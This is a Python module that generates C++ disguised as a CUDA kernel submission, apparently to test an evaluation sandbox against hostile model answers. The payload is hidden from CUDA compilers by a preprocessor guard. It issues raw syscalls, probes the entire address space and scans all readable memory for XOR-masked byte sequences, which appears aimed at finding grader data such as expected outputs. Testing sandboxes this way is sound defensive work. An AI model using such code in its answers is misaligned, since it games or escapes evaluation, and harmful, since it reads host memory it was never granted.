"""Hostile C++ in the place of an answer, which no policy has read, for x86_64: it calls the system and reads all memory."""

from __future__ import annotations

import struct

SYSTEM_CALL = """
#ifndef __CUDACC_RTC__
static long call_0(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
{
    long result;
    asm volatile("mov %5, %%r10; mov %6, %%r8; mov %7, %%r9; syscall"
                 : "=a"(result)
                 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(d), "r"(e), "r"(f) : "rcx", "r11", "r10", "r8", "r9", "memory");
    return result;
}
#endif
"""

SCAN = """
#ifndef __CUDACC_RTC__
static const int needles_0 = COUNT;
static volatile unsigned char mask_0 = 0x5a;
static const unsigned char masked_0[COUNT][8] = MASKED;
static float found_0[COUNT + 1];
static unsigned char first_0[256];

static bool readable_0(unsigned long page) { return call_0(14, 1, page, 0, 8) == 0; }  // rt_sigprocmask, SIG_UNBLOCK

static void search_0(unsigned long start, unsigned long end)
{
    found_0[COUNT] += (end - start) / 4096;
    const unsigned char* last = (const unsigned char*)end - 8;
    for (const unsigned char* at = (const unsigned char*)start; at <= last; ++at) {
        if (!first_0[*at]) continue;
        for (int n = 0; n < needles_0; ++n) {
            int same = 0;
            while (same < 8 && (unsigned char)(at[same] ^ mask_0) == masked_0[n][same]) ++same;
            if (same == 8) found_0[n] += 1.0f;
        }
    }
}

static void walk_0(unsigned long start, unsigned long size)
{
    const long fixed_no_replace = 0x100000 | 0x4000 | 0x20 | 0x2, exists = -17;
    long got = call_0(9, start, size, 0, fixed_no_replace, -1, 0);
    if (got == (long)start) { call_0(11, start, size); return; }
    if (got != exists) return;
    if (size > 1 << 16) { walk_0(start, size / 2); walk_0(start + size / 2, size / 2); return; }
    for (unsigned long page = start, from = 0; page <= start + size; page += 4096) {
        bool is_readable = page < start + size && readable_0(page);
        if (is_readable && !from) from = page;
        if (!is_readable && from) { search_0(from, page); from = 0; }
    }
}

static void scan_0(float* results)
{
    for (int n = 0; n < COUNT; ++n) first_0[masked_0[n][0] ^ mask_0] = 1;
    for (unsigned long start = 1ul << 16; start < 1ul << 46; start *= 2) walk_0(start, start);
    walk_0(1ul << 46, (1ul << 46) - (1ul << 16));
    for (int n = 0; n <= COUNT; ++n) results[n] = found_0[n];
}
#endif
"""


def kernel(parameters: str, statement: str, before: str = "") -> str:
    """Return a kernel in which the thread that runs first executes a statement; compilers for CUDA see an empty one."""
    return (
        f"{SYSTEM_CALL}{before}\n\n"
        f'extern "C" __global__ void shift_cuda_kernel_forward(\n{parameters})\n{{\n'
        f"#ifndef __CUDACC_RTC__\n    if (blockIdx.x == 0 && threadIdx.x == 0) {{ {statement} }}\n#endif\n}}\n"
    )


def scanner(parameters: str, needles: list[bytes]) -> str:
    """Return a kernel that counts needles of eight bytes in all memory it can read.

    The first elements of ``y`` receive the counts, and the number of pages read. The text contains the needles under a mask, so
    that it does not find itself.
    """
    assert all(len(needle) == 8 for needle in needles)
    masked = ", ".join("{" + ", ".join(str(byte ^ 0x5A) for byte in needle) + "}" for needle in needles)
    scan = SCAN.replace("COUNT", str(len(needles))).replace("MASKED", f"{{{masked}}}")
    return kernel(parameters, "scan_0(var_y.data);", scan)


def floats(*numbers: float) -> bytes:
    """Return numbers as bytes of single precision."""
    return struct.pack(f"={len(numbers)}f", *numbers)
